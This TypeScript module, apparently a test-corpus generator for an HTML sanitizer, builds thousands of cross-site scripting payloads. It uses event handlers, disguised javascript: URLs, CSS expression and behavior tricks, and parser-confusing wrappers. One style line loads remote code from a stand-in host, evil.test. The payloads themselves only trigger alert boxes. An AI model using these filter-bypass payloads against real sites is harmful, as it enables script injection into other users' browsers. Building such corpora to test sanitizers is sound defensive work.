// The building blocks of published attack collections: elements, events, obfuscated URLs, wrappers. Their combinations
// are about ten thousand attacks, most of them never published.

const events = (
  'abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle begin blur ' +
  'bounce cancel canplay change click close contentvisibilityautostatechange contextmenu copy cut dblclick drag drop ' +
  'durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange ' +
  'input invalid keydown keypress keyup load loadeddata loadend loadstart message mousedown mouseenter mouseover ' +
  'mousewheel pagehide pageshow paste play pointerdown pointerenter pointerrawupdate popstate propertychange ' +
  'readystatechange repeat reset resize resume scroll scrollend scrollsnapchange search securitypolicyviolation select ' +
  'selectionchange selectstart show start storage submit suspend timeupdate toggle touchstart transitionend ' +
  'transitionrun unload volumechange webkitanimationstart webkitmouseforceup wheel'
).split(' ')
const elements = (
  'a abbr address applet area article aside audio b base bdo big blink blockquote body br button canvas caption center ' +
  'col colgroup command content custom-tag datalist dd del details dialog div dl dt em embed fieldset figure font ' +
  'footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd keygen label layer legend ' +
  'li link listing main map marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript ' +
  'object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt ruby s samp script section ' +
  'select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea ' +
  'tfoot th thead time title tr track tt u ul var video wbr xml xmp v:shape o:p w:anchorlock t:set unsubscribe'
).split(' ')
const targets = ['javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>']
const disguises: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => ` \u0001\t${url}`,
  (url) => `\u00a0${url}`,
  (url) => url.replace(':', '&colon;'),
  (url) => url.replace(':', '&#58;'),
  (url) => url.replace(':', '&#x3a'),
  (url) => url.replace('s', 's&Tab;'),
  (url) => url.replace('t', '\nt'),
  (url) => url.replace('a', '&#97;').replace('s', '&#x00073;'),
  (url) => [...url].map((character) => `&#${character.charCodeAt(0)};`).join(''),
  (url) => [...url].map((character) => `&#x${character.charCodeAt(0).toString(16)}`).join(''),
  (url) => url.replace(':', '://x%0a'),
  (url) => `\u0000${url}`,
  (url) => `feed:${url}`,
  (url) => `view-source:${url}`,
]
const places = [
  ...['<a href="$">x</a>', "<a href='$'>x</a>", '<area href="$">', '<img src="$">', '<img srcset="$ 1x, x 2x">'],
  ...['<form action="$"><input type=submit>', '<form><button formaction="$">x</button></form>', '<video poster="$">'],
  ...[
    '<table background="$">',
    '<iframe src="$">',
    '<object data="$">',
    '<embed src="$">',
    '<link rel=stylesheet href="$">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=$">',
    '<base href="$">',
    '<svg><a xlink:href="$"><text>x</text></a></svg>',
  ],
  ...['<p style="background:url($)">', '<style>p{background:url("$")}</style>', '<style>@import "$";</style>'],
  ...[
    '<v:image src="$" o:href="$">',
    '<math href="$">x</math>',
    '<blockquote cite="$">x</blockquote>',
    '<q cite=$>x</q>',
  ],
  ...['<body background="$">', '<input type=image src="$">', '<image href="$">', '<link itemprop=url href="$">'],
]
const styles = [
  ...['width:expression(alert(1))', 'width:\\65xpression(alert(1))', 'width:exp/**/ression(alert(1))'],
  ...[
    'width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))',
    'width:expʀessɪoɴ(alert(1))',
    'width:e\\x\\p\\r\\e\\s\\s\\i\\o\\n(alert(1))',
  ],
  ...['width:\\000065\\000078pression(alert(1))', 'behavior:url(x.htc)', '-ms-behavior:url(x.htc)', '*behavior:url(x)'],
  ...[
    'behavior:url(#default#VML) url(x.htc)',
    '-moz-binding:url(//evil.test/x.xml#x)',
    '_behavior:url(#default#time2)',
  ],
  ...['background:url(javascript:alert(1))', 'background:\\75rl(javascript:alert(1))', "x:'\\\n;width:expression(1)"],
  ...['width:exp\\/*;color:red;\\*/ression(alert(1))', '-o-link:"javascript:alert(1)";-o-link-source:current'],
  ...['color:red;wi\\64th:expre\\\nssion(alert(1))', 'be/**/havior:url(x)', 'width:EXPRE\u200bSSION(alert(1))'],
  ...['--x:{width:expression(1)}', 'a:b}*{width:expression(1)', 'filter:progid:x(src="javascript:alert(1)")'],
]
const stylePlaces = [
  ...['<p style="$">x</p>', '<style>p{$}</style>', '<style>@media screen{p{color:red;$;top:0}}</style>'],
  ...[
    '<style>$</style>',
    '<!--[if IE]><style>p{$}</style><![endif]-->',
    '<v:shape style="$">',
    '<style><!-- p{$} --></style>',
  ],
  ...[
    "<p style='color:red;$'>x</p>",
    '<style>/*<b>*/p{a:"</b>";$}</style>',
    '<style>p{$',
    '<!--[if IE]><style>-->p{$}</style>',
  ],
]
const wrappings = [
  ...[
    '$',
    '<!--[if IE]>$<![endif]-->',
    '<!--[if gte mso 9]><xml>$</xml><![endif]-->',
    '<!--[if !IE]><!-->$<!--<![endif]-->',
  ],
  ...[
    '<!--[if IE]><p data-x-- onclick=1>$<![endif]-->',
    '<!--[if IE]><style>-->$</style><![endif]-->',
    '<![if IE]>$<![endif]>',
  ],
  ...[
    '<svg><style>$',
    '<math><mtext><table><mglyph><style>$',
    '<noscript><p title="</noscript>$">',
    '<title>$</title>',
  ],
  ...['<svg><desc>$</desc></svg>', '<svg><foreignObject>$', '<select><option>$</select>', '<template>$</template>'],
  ...[
    '<table><tr>$<td>x',
    '<textarea>$</textarea>',
    '<xmp>$</xmp>',
    '<style>$</style>',
    '<a title="$">x</a>',
    "<a title='$'>x</a>",
  ],
  ...[
    '<!-- $ -->',
    '<!--$--!>$',
    '<object>$</object>',
    '<p>$</div></p>',
    '<form><table>$</form></table>',
    '<b><p><i>$</b></p></i>',
  ],
  ...[
    '<comment>$</comment>',
    '<div <$',
    '<a href="x"$>',
    '<?xml $?>',
    '<![CDATA[$]]>',
    '</p $>',
    '<script type="application/ld+json">{"a":"$"}</script>',
  ],
]

/** Returns generated attacks, each of a kind known from published collections; the result is always the same. */
export function drawAttacks(): readonly string[] {
  const withEvents = elements.flatMap((element, index) =>
    Array.from({ length: 12 }, (_none, step) => {
      const event = events[(index * 7 + step * 11) % events.length] ?? 'load'
      const space = [' ', '/', '\n', '\t', '\u000c', ' x="y"', " x='y'", ' x=y '][(index + step) % 8]
      return `<${element}${space}${step % 2 ? 'ON' : 'on'}${event}=alert(1) src=x href=x>x</${element}>`
    }),
  )
  const withUrls = places.flatMap((place) =>
    targets.flatMap((target) => disguises.map((disguise) => place.replaceAll('$', () => disguise(target)))),
  )
  const withStyles = stylePlaces.flatMap((place) => styles.map((style) => place.replaceAll('$', () => style)))
  const simple = [...withEvents, ...withUrls, ...withStyles]
  const wrapped = wrappings.flatMap((wrapping, index) =>
    simple.filter((_attack, at) => (at + index) % 9 === 0).map((attack) => wrapping.replaceAll('$', () => attack)),
  )
  return [...simple, ...wrapped]
}
